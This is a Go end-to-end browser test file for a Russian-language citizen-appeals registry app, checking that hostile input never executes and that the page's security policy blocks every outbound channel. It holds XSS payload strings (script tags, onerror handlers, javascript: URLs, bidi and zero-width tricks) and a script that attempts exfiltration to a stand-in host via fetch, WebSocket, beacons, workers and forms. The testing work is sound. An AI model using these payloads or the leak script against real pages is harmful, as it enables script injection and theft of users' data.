package e2e

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"rroform/wasm/hostile"
)

// harmful is a record with hostile texts in every field, each in another one
// the next time.
func harmful(n int) map[string]any {
	text := func(i int) string { return hostile.Harmful[(n*7+i)%len(hostile.Harmful)] }
	return map[string]any{"departmentId": "89729055-843a-4eeb-88e1-71535b245d6f", "isDirect": n%2 == 0,
		"format": text(0),
		"number": text(1), "createDate": text(2), "name": text(3), "address": text(4), "email": text(5),
		text(6): text(7),
		"questions": []any{
			map[string]any{"code": text(8), "status": text(9), "incomingDate": text(10), "responseDate": text(11),
				"attachment": map[string]any{"name": text(12), "content": "UERG"}},
			map[string]any{"code": "0003.0009.0097.0694", "status": "Transferred",
				"transfer": map[string]any{"departmentId": text(13), "transferNumber": text(14),
					"transferDate": "2026-10-10"}, text(15): text(16)},
		}}
}

// harmfulArchive is an archive of such records under hostile names.
func harmfulArchive(t *testing.T) []byte {
	t.Helper()
	files := map[string]string{}
	for n, text := range hostile.Harmful {
		data, err := json.Marshal(harmful(n))
		if err != nil {
			t.Fatal(err)
		}
		files[strings.NewReplacer("\x00", "", "../", "").Replace(text)+".json"] = string(data)
	}
	return zipMap(t, files)
}

func zipMap(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		f, err := z.Create(name)
		if err == nil {
			_, err = f.Write([]byte(files[name]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// giveFile puts a file into an input by its accessible name; the name of the file
// may be one that a clerk's disk can hold.
func (c *clerk) giveFile(input, name string, data []byte) {
	c.t.Helper()
	path := filepath.Join(c.t.TempDir(), name)
	c.must(os.WriteFile(path, data, 0o644))
	c.unfold()
	n, err := c.find(nil, input, "button")
	c.must(err)
	c.give(n, path)
	c.settle()
}

// unfold opens everything that is folded away.
func (c *clerk) unfold() {
	c.t.Helper()
	c.eval(`document.querySelectorAll("details").forEach(d => { d.open = true; })`, nil)
}

const badName = "<img src=x onerror='window.rroHit=1'>Отчёт\u202Egpj"

// TestHostileContent puts hostile texts into every field, file name, directory and
// archive and looks at every screen: nothing runs, nothing is requested, and the
// texts are shown as text.
func TestHostileContent(t *testing.T) {
	t.Parallel()
	// Dialogs do nothing here. If one was opened, a script has run.
	c := startClerk(t, offline,
		option{inject: `window.alert = window.confirm = window.prompt = () => { window.rroHit = 1; }`})
	c.must(c.Open("Настройки"))
	for i, field := range []string{"Наименование органа государственной власти или органа местного самоуправления",
		"Уникальный идентификатор уполномоченного лица", "Ф.И.О. уполномоченного лица", "Должность"} {
		c.must(c.Fill(nil, field, hostile.Harmful[i]))
	}
	// That of another body than the one the records name.
	c.must(c.Fill(nil, "Идентификатор органа (GUID)", "a1b2c3d4-0001-4000-8000-000000000001"))
	c.must(c.Open("Справочники"))
	var bodies, codes bytes.Buffer
	for i, text := range hostile.Harmful {
		line := strings.NewReplacer("\n", " ", "\t", " ", "\r", " ", "\x00", "").Replace(text)
		fmt.Fprintf(&bodies, "%08x-843a-4eeb-88e1-71535b245d6f\t%s\n", i, line)
		fmt.Fprintf(&codes, "0001.0002.0027.%04d %s\n", 900+i, line)
	}
	c.giveFile("Загрузить справочник органов", badName+".txt", bodies.Bytes())
	c.clean("bodies offered")
	c.must(c.Press(nil, "Взять"))
	c.giveFile("Загрузить классификатор", badName+" на 20.11.2026.txt", codes.Bytes())
	c.clean("classifier offered")
	c.must(c.Press(nil, "Взять"))
	c.must(c.Fill(nil, "Поиск по классификатору", "<script>window.rroHit=1</script>"))
	c.clean("directories")

	c.must(c.Open("Обмен"))
	c.giveFile("Открыть архив РРО", badName+".zip", harmfulArchive(t))
	c.appears("Содержимое архива", "table")
	c.clean("archive opened")
	c.says("<script>window.rroHit=1</script>", "[U+202E]") // hostile names are shown as they are
	other, err := c.findBeginning("Принимать и записи другого органа", "checkbox")
	c.must(err)
	c.must(c.Check(nil, other.name, true))
	c.must(c.Press(nil, "Принять в реестр"))
	c.says("Принято новых: ")
	c.must(c.Open("Обращения"))
	c.wait(`document.querySelectorAll("main tbody tr").length >= 5`)
	c.clean("register")
	var cards []string
	c.eval(`[...document.querySelectorAll("main a[href^='#/appeals/']")].map(a => a.getAttribute("href")).filter(h =>`+
		` h.length > 20)`, &cards)
	if len(cards) < 5 {
		t.Fatalf("%d cards in the register: too few to look at", len(cards))
	}
	for _, card := range cards[:min(len(cards), 6)] {
		c.eval(fmt.Sprintf("location.hash = %q", card), nil)
		c.settle()
		c.wait(`document.getElementById("f-number")`) // the card has come
		c.clean("card " + card)
	}
	c.newCard()
	for i, field := range []string{numberField, "Дата документа по обращению", "Дата поступления в орган",
		"Дата регистрации в органе", "ФИО", "Адрес", "E-mail"} {
		c.must(c.Fill(nil, field, hostile.Harmful[i+12]))
	}
	c.must(c.Fill(nil, numberField, "1\u200b-ОГ"))
	c.clean("card typed")
	c.says("В поле есть невидимые знаки: «1[U+200B]-ОГ»")
	c.must(c.Press(nil, "Закрыть"))
	c.must(c.Open("Обмен"))
	var csv bytes.Buffer
	csv.WriteString("Номер;ФИО;Адрес;Статус;<script>window.rroHit=1</script>\n")
	for i := range hostile.Harmful {
		for j := range 5 {
			fmt.Fprintf(&csv, `"%s";`,
				strings.NewReplacer(`"`, `""`, "\x00", "").Replace(hostile.Harmful[(i+j)%len(hostile.Harmful)]))
		}
		csv.WriteString("\n")
	}
	c.giveFile(tableInput, badName+".csv", csv.Bytes())
	c.appears("Столбцы таблицы", "table")
	c.clean("table opened")
	for _, screen := range []string{"Сегодня", "Архив", "Обмен", "Справочники", "Настройки", "Справка"} {
		c.must(c.Open(screen))
		c.clean(screen)
	}
	for _, address := range []string{"#/%", "#/appeals/%E0%A4", "#/appeals/<script>window.rroHit=1</script>",
		"#/javascript:window.rroHit=1", "#/__proto__", "#/appeals?query=%ff&page=1e9&cols=<b>"} {
		c.eval(fmt.Sprintf("location.hash = %q", address), nil)
		c.settle()
		c.clean("address " + address)
	}
	c.must(c.Open("Сегодня"))
	c.reload()
	c.clean("after a reload")
	c.alone(pageURL(t))
}

// clean: nothing ran, no element came out of a text, and no link leads out.
func (c *clerk) clean(state string) {
	c.t.Helper()
	var bad []string
	c.eval(`[...document.querySelectorAll("#app script, #app iframe, #app img, #app object, #app embed, " +
			"#app svg[onload], #app form[action], #app base, #app meta, #app link, #app [style*=url]")]
		.map(e => e.outerHTML.slice(0, 200))
		.concat([...document.querySelectorAll("#app *")].filter(e => [...e.attributes].some(a => /^on/.test(a.name)))
			.map(e => e.outerHTML.slice(0, 200)))
		.concat([...document.querySelectorAll("#app a[href]")].map(a => a.getAttribute("href"))
			.filter(h => !h.startsWith("#") && !h.startsWith("blob:file")))
		.concat(window.rroHit === undefined ? [] : ["window.rroHit was set"])`, &bad)
	if len(bad) > 0 {
		c.t.Errorf("%s: %q", state, bad)
	}
}

// leaks are ways by which a page sends data out. Each says «refused» when the
// browser has not let it.
const leaks = `(async () => {
	const to = "http://leak.example.test/x", refused = [], tried = [];
	const policy = [];
	document.addEventListener("securitypolicyviolation", e => policy.push(e.effectiveDirective));
	const attempt = async (name, what) => { tried.push(name); try { await what(); } catch (e) { refused.push(name); } };
	const settled = what => new Promise(what);
	const after = (ms, what) => setTimeout(what, ms);
	const violated = (directive, no) => document.addEventListener("securitypolicyviolation",
		e => e.effectiveDirective === directive && no(new Error()));
	const element = (tag, set) => settled((ok, no) => {
		const e = document.createElement(tag);
		e.onload = ok;
		e.onerror = no;
		set(e);
		document.body.append(e);
		after(700, () => { e.remove(); no(new Error("nothing came")); });
	});
	const worker = address => settled((ok, no) => {
		const w = new Worker(address);
		w.onmessage = e => (e.data === 0 ? no(new Error()) : ok());
		w.onerror = no;
		after(3000, no);
	});
	await attempt("fetch", () => fetch(to));
	await attempt("fetch no-cors", () => fetch(to, {mode: "no-cors", method: "POST", body: "x"}));
	await attempt("XMLHttpRequest", () => settled((ok, no) => {
		const x = new XMLHttpRequest();
		x.onload = ok;
		x.onerror = no;
		x.open("POST", to);
		x.send("x");
	}));
	await attempt("WebSocket", () => settled((ok, no) => {
		const s = new WebSocket("ws://leak.example.test/x");
		s.onopen = ok;
		s.onerror = no;
	}));
	await attempt("EventSource", () => settled((ok, no) => {
		const s = new EventSource(to);
		s.onopen = ok;
		s.onerror = () => { s.close(); no(new Error()); };
	}));
	await attempt("img", () => element("img", e => { e.src = to + ".png"; }));
	await attempt("style sheet", () => element("link", e => { e.rel = "stylesheet"; e.href = to + ".css"; }));
	await attempt("script", () => element("script", e => { e.src = to + ".js"; }));
	await attempt("inline script", () => settled((ok, no) => {
		window.rroRan = 0;
		const s = document.createElement("script");
		s.textContent = "window.rroRan = 1";
		document.body.append(s);
		s.remove();
		window.rroRan ? ok() : no(new Error());
	}));
	await attempt("eval", () => window.eval("1"));
	await attempt("iframe", () => settled((ok, no) => {
		const f = document.createElement("iframe");
		violated("frame-src", no);
		f.src = to;
		document.body.append(f);
		after(1500, () => { f.remove(); ok(); });
	}));
	await attempt("object", () => element("object", e => { e.data = to; }));
	await attempt("video", () => element("video", e => { e.src = to + ".mp4"; }));
	await attempt("font", () => new FontFace("leak", "url(" + to + ".woff2)").load());
	await attempt("worker", () => worker(to));
	await attempt("data worker", () => worker("data:text/javascript,postMessage(1)"));
	await attempt("worker's fetch", () => worker(URL.createObjectURL(new Blob([
		"fetch('" + to + "').then(() => postMessage(1), () => postMessage(0))"]))));
	await attempt("form", () => settled((ok, no) => {
		violated("form-action", no);
		const f = document.createElement("form");
		f.action = to;
		f.method = "post";
		document.body.append(f);
		f.submit();
		after(5000, () => { f.remove(); ok(); });
	}));
	await attempt("beacon", () => {
		if (!navigator.sendBeacon(to, "x")) throw new Error();
		return settled((ok, no) => after(300, () => (policy.includes("connect-src") ? no(new Error()) : ok())));
	});
	return {tried, refused};
})()`

// TestPolicyRefuses injects every way out into the page, with the network on:
// the browser refuses each, and no request leaves it.
func TestPolicyRefuses(t *testing.T) {
	t.Parallel()
	if !*enabled {
		t.Skip("browser test: run with -e2e or RRO_E2E=1")
	}
	var came atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		came.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		t.Logf("came through: %s %s", r.Method, r.URL)
	}))
	defer server.Close()
	at := strings.TrimPrefix(server.URL, "http://")
	_, port, _ := strings.Cut(at, ":")
	c := startClerk(t, option{flags: []string{"host-resolver-rules=MAP leak.example.test 127.0.0.1"}})
	var got struct{ Tried, Refused []string }
	c.eval(strings.ReplaceAll(leaks, "leak.example.test", "leak.example.test:"+port), &got)
	if n := came.Load(); n != 0 {
		t.Errorf("%d requests left the browser", n)
	}
	if _, err := http.Get("http://" + at); err != nil || came.Load() != 1 {
		t.Errorf("the server would not have seen them: %v", err)
	}
	for _, way := range got.Tried {
		if !slices.Contains(got.Refused, way) {
			t.Errorf("%s was not refused", way)
		}
	}
	if len(got.Tried) < 19 {
		t.Errorf("tried only %q", got.Tried)
	}
	told := strings.Join(c.consoleErrors(), "\n")
	for _, directive := range []string{"connect-src", "img-src", "script-src", "form-action", "worker-src"} {
		if !strings.Contains(told, directive) && !strings.Contains(told, "default-src") {
			t.Errorf("the browser does not say that %s forbids it:\n%.2000s", directive, told)
		}
	}
}
